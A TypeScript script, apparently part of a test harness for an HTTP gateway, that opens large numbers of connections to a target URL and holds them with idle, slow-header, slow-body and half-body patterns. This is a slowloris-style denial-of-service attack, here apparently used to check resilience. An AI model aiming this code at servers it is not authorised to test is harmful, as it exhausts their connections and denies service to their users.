/** `attacker.ts <url>`: opens the connections of an attack, sends its parent a message when all are open, and keeps them until it is stopped. */
import { connect, type Socket } from 'node:net';
import { ATTACK } from './attackers.js';

const OPENED_AT_ONCE = 100;
const DRIP_EVERY_MS = 1000;
const SLICES = 50;
const BODY_BYTES = 100_000;

const { hostname, port } = new URL(process.argv[2]!);
const LINE = `POST /ingest HTTP/1.1\r\nHost: ${hostname}\r\n`;
const HEAD = `${LINE}Content-Type: application/json\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;

/** What each kind sends at once; two of them continue, a byte at a time. */
const BEGINNINGS: Record<keyof typeof ATTACK, string> = {
  'idle connections': '',
  'that send a header byte a second': `${LINE}X-Slow: `,
  'that send a body byte a second': HEAD,
  'that stop in the middle of a body': HEAD + ' '.repeat(BODY_BYTES / 2),
};
const DRIPPING = /a second$/;

const dripping: Socket[] = [];

async function open(kind: keyof typeof ATTACK): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const socket = connect(Number(port), hostname, resolve);
  // The gateway may close what is too slow for it: that is its right.
  socket.on('error', () => resolve());
  await promise;
  if (BEGINNINGS[kind] !== '') socket.write(BEGINNINGS[kind]);
  if (DRIPPING.test(kind)) dripping.push(socket);
}

for (const kind of Object.keys(ATTACK) as (keyof typeof ATTACK)[]) {
  for (let opened = 0; opened < ATTACK[kind]; opened += OPENED_AT_ONCE) {
    await Promise.all(Array.from({ length: OPENED_AT_ONCE }, () => open(kind)));
  }
}
// Each once a second, and not all of them at the same moment: they know nothing of each other.
let slice = 0;
setInterval(() => {
  for (let at = slice; at < dripping.length; at += SLICES) if (dripping[at]!.writable) dripping[at]!.write(' ');
  slice = (slice + 1) % SLICES;
}, DRIP_EVERY_MS / SLICES);
process.send!('all are there');
